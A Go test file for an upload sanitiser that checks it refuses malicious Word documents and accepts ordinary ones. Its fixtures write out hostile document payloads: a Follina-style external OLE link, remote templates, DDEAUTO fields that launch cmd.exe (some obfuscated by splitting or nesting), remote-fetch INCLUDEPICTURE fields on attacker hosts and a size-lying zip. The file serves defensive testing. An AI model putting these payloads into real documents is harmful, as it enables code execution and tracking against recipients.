package uploads

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"errors"
	"fmt"
	"hash/crc32"
	"strings"
	"testing"
)

const relTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

// relsXML is a relationships part holding rels.
func relsXML(rels ...string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + strings.Join(rels, "") + `</Relationships>`
}

// rel is a relationship of type typ (after relTypes unless it has a
// scheme); mode "" leaves TargetMode out.
func rel(id, typ, target, mode string) string {
	if !strings.Contains(typ, ":") {
		typ = relTypes + typ
	}
	r := `<Relationship Id="` + id + `" Type="` + typ + `" Target="` + target + `"`
	if mode != "" {
		r += ` TargetMode="` + mode + `"`
	}
	return r + `/>`
}

// documentXML is a Word main part with body.
func documentXML(body string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>` +
		body + `<w:sectPr/></w:body></w:document>`
}

// field is a complex field whose instruction is split into runs as given,
// with result text; instructions may hold other fields' runs.
func field(result string, instr ...string) string {
	s := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, i := range instr {
		if strings.HasPrefix(i, "<") {
			s += i
		} else {
			s += `<w:r><w:instrText xml:space="preserve">` + i + `</w:instrText></w:r>`
		}
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + result +
		`</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

// nested is the runs of a field inside another field's instruction.
func nested(instr string) string {
	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + instr +
		`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

// docxWith is the one-paragraph Word document with extra content types and
// the parts given, each replacing the part of its name or added.
func docxWith(t *testing.T, extraTypes string, parts ...part) []byte {
	t.Helper()
	return zipOf(t, withParts(wordParts(contentTypesXML(mainDocx, extraTypes)), parts...)...)
}

func withParts(base []part, parts ...part) []part {
	out := append([]part(nil), base...)
	for _, p := range parts {
		replaced := false
		for i := range out {
			if out[i].name == p.name {
				out[i], replaced = p, true
			}
		}
		if !replaced {
			out = append(out, p)
		}
	}
	return out
}

func withoutPart(base []part, name string) []part {
	var out []part
	for _, p := range base {
		if p.name != name {
			out = append(out, p)
		}
	}
	return out
}

// zipLying is zipOf, except that the part named lie declares an
// uncompressed size of declared bytes, whatever it really holds.
func zipLying(t *testing.T, lie string, declared uint64, parts ...part) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, p := range parts {
		if p.name != lie {
			f, err := w.Create(p.name)
			if err != nil {
				t.Fatal(err)
			}
			f.Write([]byte(p.body))
			continue
		}
		var c bytes.Buffer
		fw, _ := flate.NewWriter(&c, flate.BestCompression)
		fw.Write([]byte(p.body))
		fw.Close()
		f, err := w.CreateRaw(&zip.FileHeader{
			Name: p.name, Method: zip.Deflate, CRC32: crc32.ChecksumIEEE([]byte(p.body)),
			CompressedSize64: uint64(c.Len()), UncompressedSize64: declared,
		})
		if err != nil {
			t.Fatal(err)
		}
		f.Write(c.Bytes())
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const (
	docRels      = "word/_rels/document.xml.rels"
	stylesRel    = `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>`
	settingsType = `<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>`
	headerType   = `<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>`
	pngType      = `<Default Extension="png" ContentType="image/png"/>`
)

// withRels is the Word document whose main part has rels as well as its
// styles.
func withRels(t *testing.T, rels ...string) []byte {
	return docxWith(t, "", part{docRels, relsXML(append([]string{stylesRel}, rels...)...)})
}

// withBody is the Word document whose body is body.
func withBody(t *testing.T, body string) []byte {
	return docxWith(t, "", part{"word/document.xml", documentXML(body)})
}

func TestPrepareRefusesDOCXThatFetchOrRunSomething(t *testing.T) {
	const follina = "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html"
	manyRels := make([]part, maxRelsParts)
	for i := range manyRels {
		manyRels[i] = part{fmt.Sprintf("customXml/_rels/item%d.xml.rels", i), relsXML()}
	}
	deep := ""
	for range maxFieldDepth + 1 {
		deep += `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>`
	}
	big := documentXML(`<w:p><w:r><w:t>` + strings.Repeat("a", maxWordXML) + `</w:t></w:r></w:p>`)

	tests := []struct {
		name string
		file []byte
		why  string // the reason given; "" where archive/zip refuses first
	}{
		// External relationships.
		{"an external OLE object (Follina) is refused", withRels(t, rel("rId9", "oleObject", follina, "External")), "external oleobject"},
		{"a remote template, which brings its macros, is refused", docxWith(t, settingsType,
			part{"word/settings.xml", `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>`},
			part{"word/_rels/settings.xml.rels", relsXML(rel("rId1", "attachedTemplate", "https://attacker.example/letter.dotm", "External"))}), "external attachedtemplate"},
		{"an external frame is refused", withRels(t, rel("rId9", "frame", "https://attacker.example/", "External")), "external frame"},
		{"an external subdocument is refused", withRels(t, rel("rId9", "subDocument", `\\attacker.example\share\sub.docx`, "External")), "external subdocument"},
		{"an external control is refused", withRels(t, rel("rId9", "control", "https://attacker.example/c", "External")), "external control"},
		{"an external image, a beacon that tells when a family opens it, is refused",
			withRels(t, rel("rId9", "image", "https://tracker.example/pixel.png", "External")), "external image"},
		{"an external mail merge source is refused", withRels(t, rel("rId9", "mailMergeSource", "file:///C:/data.xlsx", "External")), "external relationship other than a hyperlink"},
		{"an external relationship in the package relationships is refused", docxWith(t, "",
			part{"_rels/.rels", relsXML(rel("rId1", "officeDocument", "word/document.xml", ""), rel("rId2", "oleObject", follina, "External"))}), "external oleobject"},
		{"a type in capitals and a target mode in lower case are refused", withRels(t, rel("rId9", "OLEOBJECT", follina, "external")), "external oleobject"},
		{"a remote target without a target mode is refused", withRels(t, rel("rId9", "image", "https://tracker.example/pixel.png", "")), "external image"},
		{"a network path target without a target mode is refused", withRels(t, rel("rId9", "image", "//tracker.example/pixel.png", "")), "external image"},
		{"a relationships part named in capitals is refused", zipOf(t, append(withoutPart(wordParts(contentTypesXML(mainDocx, "")), docRels),
			part{"WORD/_RELS/DOCUMENT.XML.RELS", relsXML(stylesRel, rel("rId9", "oleObject", follina, "External"))})...), "external oleobject"},
		// altChunk.
		{"an external altChunk is refused", withRels(t, rel("rId9", "aFChunk", "https://attacker.example/x.mht", "External")), "altChunk"},
		{"an internal altChunk is refused", docxWith(t, `<Default Extension="mht" ContentType="message/rfc822"/>`,
			part{docRels, relsXML(stylesRel, rel("rId9", "aFChunk", "afchunk.mht", ""))},
			part{"word/afchunk.mht", "MIME-Version: 1.0\r\n\r\n<html><script>x</script></html>"}), "altChunk"},
		// Bounds on relationships.
		{"a relationships part over 1 MiB is refused",
			withRels(t, "<!--"+strings.Repeat("A", maxRelsPart)+"-->"), "relationships too large to check"},
		{"a relationships part that inflates past its declared size is refused",
			zipLying(t, docRels, 100, withParts(wordParts(contentTypesXML(mainDocx, "")),
				part{docRels, relsXML(stylesRel, "<!--"+strings.Repeat("A", maxRelsPart)+"-->")})...), ""},
		{"more than 200 relationships parts are refused", docxWith(t, "", manyRels...), "too many relationships parts"},
		{"a malformed relationships part is refused", docxWith(t, "", part{docRels, `<Relationships><Relationship Type="x"`}), "malformed relationships"},
		// Fields.
		{"a DDEAUTO field is refused", withBody(t, field("x", `DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`)), "dde field"},
		{"a DDE field in lower case split across runs is refused", withBody(t, field("x", "\n\t d", "d", "e  c:\\\\windows\\\\system32\\\\cmd.exe ", `"/k calc"`)), "dde field"},
		{"a DDEAUTO field split inside its name is refused", withBody(t, field("x", " DD", "EAUTO ", `c:\\x.exe`)), "dde field"},
		{"a simple DDE field is refused", withBody(t, `<w:fldSimple w:instr=" ddeauto c:\\x.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple>`), "dde field"},
		{"a DDE field in deleted text, which rejecting the change restores, is refused",
			withBody(t, `<w:p><w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDEAUTO c:\\x.exe</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>`), "dde field"},
		{"a field whose name another field makes (QUOTE 68 68 69) is refused",
			withBody(t, field("x", " ", nested("QUOTE 68 68 69 65 85 84 79"), ` c:\\x.exe`)), "field named by another field"},
		{"a DDE field in a header is refused", docxWith(t, headerType,
			part{"word/header1.xml", `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + field("x", "DDEAUTO c:\\x.exe") + `</w:hdr>`}), "dde field"},
		{"a DDE field in a main part not called document.xml is refused", zipOf(t,
			withParts(wordParts(strings.Replace(contentTypesXML(mainDocx, ""), "/word/document.xml", "/word/main.xml", 1)),
				part{"word/main.xml", documentXML(field("x", "DDE c:\\x.exe"))})...), "dde field"},
		{"a picture fetched from a web address is refused", withBody(t, field("", `INCLUDEPICTURE "http://tracker.example/p.png" \d`)), "field that fetches remote content"},
		{"a picture fetched over https is refused", withBody(t, field("", `INCLUDEPICTURE  \d "HTTPS://tracker.example/p.png"`)), "field that fetches remote content"},
		{"text included from a network share is refused", withBody(t, field("", `INCLUDETEXT "\\\\attacker.example\\share\\x.docx"`)), "field that fetches remote content"},
		{"text included from a file address is refused", withBody(t, `<w:fldSimple w:instr="includetext file:///C:/x.docx"/>`), "field that fetches remote content"},
		{"a picture whose address another field makes is refused",
			withBody(t, field("", `INCLUDEPICTURE "`, nested(`MERGEFIELD url`), `"`)), "include field with a computed target"},
		{"an include field split inside its name is refused", withBody(t, field("", "INCLUDE", "PICTURE ", `"http://tracker.example/p.png"`)), "field that fetches remote content"},
		// Bounds on the Word parts.
		{"fields nested too deeply are refused", withBody(t, `<w:p>`+deep+`</w:p>`), "fields nested too deeply"},
		{"a malformed document part is refused", withBody(t, `<w:p><w:r><w:t>unclosed</w:r></w:p>`), "malformed word part"},
		{"a document part over 20 MiB is refused as too large to check", docxWith(t, "", part{"word/document.xml", big}), "word parts too large to check"},
		{"a document part that inflates past its declared size is refused",
			zipLying(t, "word/document.xml", 1000, withParts(wordParts(contentTypesXML(mainDocx, "")), part{"word/document.xml", big})...), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, dir, err := prepare(t, tt.file, nil)
			if !errors.Is(err, ErrNotAllowed) {
				t.Fatalf("Prepare = %v, %v; want ErrNotAllowed", f, err)
			}
			if tt.why != "" && !strings.HasSuffix(err.Error(), ": "+tt.why) {
				t.Fatalf("refused as %q, want %q", err, tt.why)
			}
			if f != nil {
				t.Fatal("a File came back with an error")
			}
			assertEmpty(t, dir)
		})
	}
}

func TestPrepareAcceptsOrdinaryDOCX(t *testing.T) {
	image := `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rId9"/></w:drawing></w:r></w:p>`
	tests := []struct {
		name string
		file []byte
	}{
		{"a document with an external hyperlink is accepted", docxWith(t, "",
			part{docRels, relsXML(stylesRel, rel("rId9", "hyperlink", "https://www.council.example/help?a=1&amp;b=2", "External"))},
			part{"word/document.xml", documentXML(`<w:p><w:hyperlink r:id="rId9"><w:r><w:t>Help</w:t></w:r></w:hyperlink></w:p>` +
				field("Help", `HYPERLINK "https://www.council.example/help"`))})},
		{"a document with an internal image is accepted", docxWith(t, pngType,
			part{docRels, relsXML(stylesRel, rel("rId9", "image", "media/image1.png", ""))},
			part{"word/media/image1.png", "\x89PNG\r\n\x1a\n"},
			part{"word/document.xml", documentXML(image)})},
		{"ordinary fields are accepted", withBody(t,
			`<w:p><w:fldSimple w:instr=" PAGE   \* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`+
				field("Added", "MERGEFIELD AddedDate"+` \@ "d MMMM yyyy"`)+
				field("yes", "IF ", nested("MERGEFIELD Hidden"), ` = "Y" "yes" "no"`)+
				field("Contents", `TOC \o "1-3" \h`)+
				field("", `INCLUDEPICTURE "C:\\Users\\worker\\Pictures\\logo.png" \* MERGEFORMAT`)+
				field("Lnk", `LINK Excel.Sheet.12 "C:\\Budget.xlsx" "Sheet1!R1C1:R5C3" \a \f 4 \h`))},
		{"a table of contents with page fields in its result is accepted", withBody(t,
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TOC \o "1-3"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>`+
				nested(`PAGEREF _Toc1 \h`)+`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, _, err := prepare(t, tt.file, nil)
			if err != nil {
				t.Fatalf("Prepare: %v", err)
			}
			if f.Type != DOCX {
				t.Fatalf("Type = %+v", f.Type)
			}
			if !bytes.Equal(contents(t, f), tt.file) {
				t.Fatal("the document changed on the way through")
			}
		})
	}
}
